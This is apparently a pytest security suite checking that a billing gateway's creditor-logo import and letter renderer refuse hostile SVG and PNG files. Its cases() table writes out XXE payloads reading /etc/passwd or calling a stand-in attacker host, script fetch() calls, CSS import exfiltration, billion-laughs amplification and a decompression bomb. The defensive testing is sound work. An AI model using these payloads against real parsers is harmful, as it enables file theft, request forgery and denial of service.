"""The creditor's SVG logo as an XML entry point.

A logo is imported once (`gateway creditors import`, `logo_file`) and then parsed again by
WeasyPrint for every letter. Each hostile logo below (entities, DTDs, XInclude, outside references
in attributes, CSS and processing instructions, script, foreign elements, animation, `<use>`
"billion laughs", deep nesting, oversize, a PNG decompression bomb) is:

- refused at import with the entity's field and the exact rule, nothing stored, nothing audited;
- refused by the letter renderer itself with `letter.logo.<rule>`;
- when it is already stored (written before the rule existed), left off the letter: the worker
  still issues the consumer's invoice, the document records `logo_refused` with the rule, the PDF
  embeds no image, and the loopback "attacker's host" receives no request;

all within bounds of CPU time and memory (tests/security/attack_support.py).
"""

from __future__ import annotations

import io
import json
import logging
from pathlib import Path

import pytest
from click.testing import CliRunner
from PIL import Image
from sqlalchemy import select

from gateway import demo_data
from gateway.api.payloads import ClaimIn
from gateway.cli import main as gateway_cli
from gateway.domain.document import DocumentRuleError
from gateway.kit.time import utc_now
from gateway.letters.logo import MAX_LOGO_BYTES, MAX_SVG_ELEMENTS, check_logo
from gateway.letters.render import render_letter
from gateway.services.auth import authenticate
from gateway.services.claims import create_claim
from gateway.services import documents
from gateway.store.models import AuditEvent, Claim, CreditorEntity
from tests.factories import consumer_claim, seed_creditors
from tests.letters.test_render import letter, page_texts
from tests.security.attack_support import FIGURES, MIB, SECRET_PAYLOAD, Outside, measure, record

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40">'
MAX_SECONDS = 5.0
MAX_RSS_GROWTH = 64 * MIB


def svg(body: str, *, prolog: str = "") -> bytes:
    return f"{prolog}{SVG_OPEN}{body}</svg>".encode()


def _billion_laughs() -> bytes:
    lines = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10)]
    return svg("<text>&lol9;</text>", prolog=f'<?xml version="1.0"?><!DOCTYPE svg [{"".join(lines)}]>')


def _use_laughs(levels: int) -> bytes:
    """Ten <use> of ten <use> of ... one rect: 10**levels rects drawn from a 1 kB file."""
    groups = ['<g id="g0"><rect width="1" height="1"/></g>']
    groups += [f'<g id="g{i}">' + f'<use href="#g{i - 1}"/>' * 10 + "</g>" for i in range(1, levels + 1)]
    return svg(f'<defs>{"".join(groups)}</defs><use href="#g{levels}"/>')


def _png(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def cases(outside: Outside) -> dict[str, tuple[bytes, str]]:
    """name -> (logo bytes, the rule that refuses it, without the `logo_file.` prefix)."""
    base = outside.base
    return {
        "internal-entity": (svg("<text>&x;</text>", prolog='<!DOCTYPE svg [<!ENTITY x "Zonnedorp">]>'), "svg_doctype"),
        "xxe-file": (svg("<text>&x;</text>", prolog='<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "svg_doctype"),
        "xxe-http": (svg("<text>&x;</text>", prolog=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{base}/xxe">]>'), "svg_doctype"),
        "xxe-parameter-entity": (svg("<text>&leak;</text>", prolog=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{base}/evil.dtd"> %p;]>'), "svg_doctype"),
        "external-dtd": (svg("", prolog=f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{base}/svg11.dtd">'), "svg_doctype"),
        "billion-laughs": (_billion_laughs(), "svg_doctype"),
        "utf16-doctype": (('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG_OPEN + "<text>&x;</text></svg>").encode("utf-16"), "svg_doctype"),
        "xinclude": (svg(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{base}/xinclude" parse="text"/>'), "svg_xinclude"),
        "image-http": (svg(f'<image href="{base}/tracker.png" width="10" height="10"/>'), "svg_external_reference"),
        "image-xlink-file": (svg('<image xlink:href="file:///etc/passwd" width="10" height="10"/>'), "svg_external_reference"),
        "image-relative": (svg('<image href="secret.png" width="10" height="10"/>'), "svg_external_reference"),
        "use-other-document": (svg(f'<use href="{base}/other.svg#shape"/>'), "svg_external_reference"),
        "fe-image": (svg(f'<filter id="f"><feImage href="{base}/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'), "svg_external_reference"),
        "link": (svg(f'<a href="{base}/phish"><rect width="9" height="9"/></a>'), "svg_external_reference"),
        "nested-svg-data-uri": (svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'), "svg_external_reference"),
        "style-import": (svg(f'<style>@import url("{base}/style.css");</style>'), "svg_external_reference"),
        "style-import-escaped": (svg(f'<style>@\\69mport "{base}/style.css";</style>'), "svg_external_reference"),
        "style-url": (svg(f"<style>rect {{ fill: url({base}/paint.svg#p) }}</style><rect width=\"9\" height=\"9\"/>"), "svg_external_reference"),
        "style-url-escaped": (svg(f"<style>rect {{ fill: \\75rl({base}/paint.svg#p) }}</style>"), "svg_external_reference"),
        "font-face": (svg(f'<style>@font-face {{ font-family: x; src: url("{base}/font.woff") }}</style>'), "svg_external_reference"),
        "style-attribute-url": (svg(f'<rect width="9" height="9" style="fill: url(\'{base}/paint.svg#p\')"/>'), "svg_external_reference"),
        "presentation-attribute-url": (svg(f'<rect width="9" height="9" mask="url({base}/mask.svg#m)"/>'), "svg_external_reference"),
        "xml-stylesheet": (svg("", prolog=f'<?xml-stylesheet type="text/css" href="{base}/style.css"?>'), "svg_external_reference"),
        "script": (svg(f'<script>fetch("{base}/script")</script>'), "svg_script"),
        "onload": (f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{base}/onload\')"/>'.encode(), "svg_script"),
        "foreign-object": (svg(f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{base}/frame"/></foreignObject>'), "svg_foreign_element"),
        "foreign-namespace-image": (svg(f'<x:image xmlns:x="urn:evil" href="#a" width="9" height="9"/><rect id="a" width="1" height="1"/>'), "svg_foreign_element"),
        "animation-rewrites-href": (svg(f'<image href="#a" width="9" height="9"><set attributeName="href" to="{base}/later.png"/></image><rect id="a"/>'), "svg_animation"),
        "use-laughs": (_use_laughs(6), "svg_too_complex"),
        "use-laughs-just-over": (_use_laughs(4), "svg_too_complex"),  # 32,221 drawn; WeasyPrint took 4.6 s
        "use-cycle": (svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "svg_too_complex"),
        "pattern-laughs": (svg("<defs>" + '<pattern id="p0"><rect width="1" height="1"/></pattern>' + "".join(
            f'<pattern id="p{i}">' + f'<rect width="1" height="1" fill="url(#p{i - 1})"/>' * 10 + "</pattern>" for i in range(1, 7)) + '</defs><rect width="9" height="9" fill="url(#p6)"/>'), "svg_too_complex"),
        "deep-nesting": (svg("<g>" * 20_000 + "</g>" * 20_000), "type"),
        "not-svg-root": (b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "type"),
        "oversized": (svg("<!--" + "x" * MAX_LOGO_BYTES + "-->"), "too_large"),
        "png-decompression-bomb": (_png(4097, 4097), "png_dimensions"),
    }


@pytest.fixture
def outside():
    server = Outside()
    yield server
    server.close()


def _bounded(measured, entry: str, name: str) -> None:
    record(entry, name, measured)
    assert measured.seconds < MAX_SECONDS, f"{entry} {name}: {measured.seconds:.2f} s"
    assert measured.rss_growth_bytes < MAX_RSS_GROWTH, f"{entry} {name}: RSS grew {measured.rss_growth_bytes / MIB:.1f} MiB"
    assert measured.python_peak_bytes < 32 * MIB, f"{entry} {name}: Python peak {measured.python_peak_bytes / MIB:.1f} MiB"


def test_the_logo_rules_accept_ordinary_logos():
    """The checks refuse the attacks, not logos: the demo logos, a gradient, an internal <use>,
    a class stylesheet with url(#gradient), an embedded PNG and a PNG of 4096 x 4096 pass."""
    gradient = svg(
        '<defs><linearGradient id="lg"><stop offset="0" stop-color="#123456"/><stop offset="1" stop-color="#fff"/></linearGradient>'
        '<g id="mark"><rect width="9" height="9"/></g><clipPath id="c"><rect width="5" height="5"/></clipPath></defs>'
        '<style>.b { fill: url(#lg); }</style><use xlink:href="#mark" x="10"/><use href="#mark" class="b" clip-path="url(#c)"/>'
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/><title>Zonnedorp</title>',
        prolog='<?xml version="1.0" encoding="UTF-8" standalone="no"?><!-- exported -->',
    )
    for code, *_ in demo_data.CREDITORS:
        assert check_logo(demo_data.creditor_logo(code)[0]) == "image/svg+xml", code
    assert check_logo(gradient) == "image/svg+xml"
    assert check_logo(_png(4096, 4096)) == "image/png"
    assert check_logo(_use_laughs(3)) == "image/svg+xml"  # 1,000 rects in 3,223 drawn elements: under the limit
    assert MAX_SVG_ELEMENTS == 10_000


# --- gateway creditors import (logo_file) -------------------------------------------------------


def test_creditors_import_refuses_every_hostile_logo(cli_database, outside, tmp_path: Path):
    runner = CliRunner()
    (tmp_path / "logos").mkdir()
    runner.invoke(gateway_cli, ["creditors", "import", str(tmp_path / "missing.json")])  # first-call costs out of the figures
    for name, (logo, rule) in cases(outside).items():
        (tmp_path / "logos" / f"{name}.svg").write_bytes(logo)
        path = tmp_path / f"{name}.json"
        path.write_text(json.dumps([{"code": "zonnedorp", "kind": "municipality", "name": "Gemeente Zonnedorp", "iban": "BE48320070184927", "logo_file": f"logos/{name}.svg"}]))
        measured = measure(lambda: runner.invoke(gateway_cli, ["creditors", "import", str(path)]))
        _bounded(measured, "gateway creditors import", name)
        result = measured.result
        assert result.exit_code == 1, (name, result.output)
        assert result.stderr.startswith(f"0.logo_file: logo_file.{rule}: {name}.svg: "), (name, result.stderr)
        assert "nothing imported" in result.stderr
        assert SECRET_PAYLOAD.decode() not in result.stderr and "root:" not in result.stderr
    assert outside.requests == []
    with cli_database.session_scope() as session:
        assert session.scalars(select(CreditorEntity)).all() == []
        assert session.scalars(select(AuditEvent)).all() == []


def test_creditors_import_names_the_rule_in_its_message(cli_database, tmp_path: Path):
    (tmp_path / "logos").mkdir()
    (tmp_path / "logos" / "inkscape.svg").write_bytes(svg('<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"/>'))
    path = tmp_path / "creditors.json"
    path.write_text(json.dumps([{"code": "zonnedorp", "kind": "municipality", "name": "Gemeente Zonnedorp", "iban": "BE48320070184927", "logo_file": "logos/inkscape.svg"}]))
    result = CliRunner().invoke(gateway_cli, ["creditors", "import", str(path)])
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "0.logo_file: logo_file.svg_foreign_element: inkscape.svg: an SVG logo holds SVG elements only, "
        "found <namedview> in namespace http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd; export it as plain SVG"
    )


# --- the renderer (pure) ----------------------------------------------------------------------------


def test_the_letter_renderer_refuses_every_hostile_logo(outside):
    render_letter(letter())  # WeasyPrint and fonts loaded before measuring
    for name, (logo, rule) in cases(outside).items():
        media_type = "image/png" if logo.startswith(b"\x89PNG") else "image/svg+xml"

        def attempt():
            try:
                render_letter(letter(logo=logo, logo_media_type=media_type))
            except DocumentRuleError as refused:
                return refused
            return None

        measured = measure(attempt)
        _bounded(measured, "render_letter", name)
        assert measured.result is not None, name
        assert [(p.field, p.rule) for p in measured.result.problems] == [("logo", f"letter.logo.{rule}")], name
    assert outside.requests == []


# --- a hostile logo stored before the rule: letters still go out, without it -----------------------


def test_letters_from_an_already_stored_hostile_logo_leave_it_out_and_record_why(database, settings, outside, caplog):
    """The consumer's invoice letter, issued as the worker's claim.issue handler issues it."""
    keys = seed_creditors(database)
    attacks = cases(outside)
    if database.url.startswith("postgresql"):
        # Every case on SQLite; on PostgreSQL the first case of each rule (a letter is ~1 s of WeasyPrint).
        first_per_rule: dict[str, str] = {}
        for name, (_, rule) in attacks.items():
            first_per_rule.setdefault(rule, name)
        attacks = {name: attacks[name] for name in first_per_rule.values()}
    with database.session_scope() as session:
        authenticated = authenticate(session, keys.municipality_key)
        claim_ids = [create_claim(session, authenticated, ClaimIn.model_validate(consumer_claim(f"L{index:03d}")), now=utc_now()).claim.id for index in range(len(attacks) + 1)]
    render_letter(letter())  # WeasyPrint and fonts loaded before measuring
    caplog.set_level(logging.WARNING, logger="gateway.services.letters")
    for claim_id, (name, (logo, rule)) in zip(claim_ids, attacks.items()):
        # Written straight into the row, as an earlier version's import would have stored it.
        with database.session_scope() as session:
            creditor = session.scalars(select(CreditorEntity).where(CreditorEntity.code == "gent")).one()
            creditor.logo, creditor.logo_media_type = logo, "image/png" if logo.startswith(b"\x89PNG") else "image/svg+xml"

        def issue():
            with database.session_scope() as session:
                document = documents.issue_consumer_invoice(session, session.get(Claim, claim_id), now=utc_now(), settings=settings)
                return document.number, document.meta, document.content

        measured = measure(issue)
        _bounded(measured, "letter from a stored logo", name)
        number, meta, pdf = measured.result
        assert meta["logo_refused"]["rule"] == f"logo_file.{rule}", (name, meta.get("logo_refused"))
        assert b"/Subtype /Image" not in pdf, name  # neither the logo nor anything it points at
        text = page_texts(pdf)[0]
        assert "Stad Gent" in text and "An Peeters" in text, name  # the letter itself is whole
        assert SECRET_PAYLOAD.decode() not in text and "root:" not in text, name
        warning = caplog.records[-1].getMessage()
        assert warning.startswith(f"creditor gent: stored logo left off letter {number}: logo_file.{rule}: "), (name, warning)
    assert outside.requests == []
    with database.session_scope() as session:
        # A usable logo again: printed, nothing recorded.
        creditor = session.scalars(select(CreditorEntity).where(CreditorEntity.code == "gent")).one()
        creditor.logo, creditor.logo_media_type = demo_data.creditor_logo("zonnedorp")
    with database.session_scope() as session:
        document = documents.issue_consumer_invoice(session, session.get(Claim, claim_ids[-1]), now=utc_now(), settings=settings)
        assert "logo_refused" not in document.meta
        assert "Zonnedorp" in page_texts(document.content)[0]  # the logo's own text is drawn


def test_print_figures():
    """Not a check: prints the measured figures (run with -s) for the README."""
    for entry, rows in sorted(FIGURES.items()):
        if entry not in ("gateway creditors import", "render_letter", "letter from a stored logo"):
            continue
        worst = max(rows, key=lambda row: row[1])
        print(f"{entry}: {len(rows)} cases, slowest {worst[0]} {worst[1] * 1000:.1f} ms, "
              f"max Python peak {max(r[2] for r in rows) / MIB:.2f} MiB, max RSS growth {max(r[3] for r in rows) / MIB:.1f} MiB")
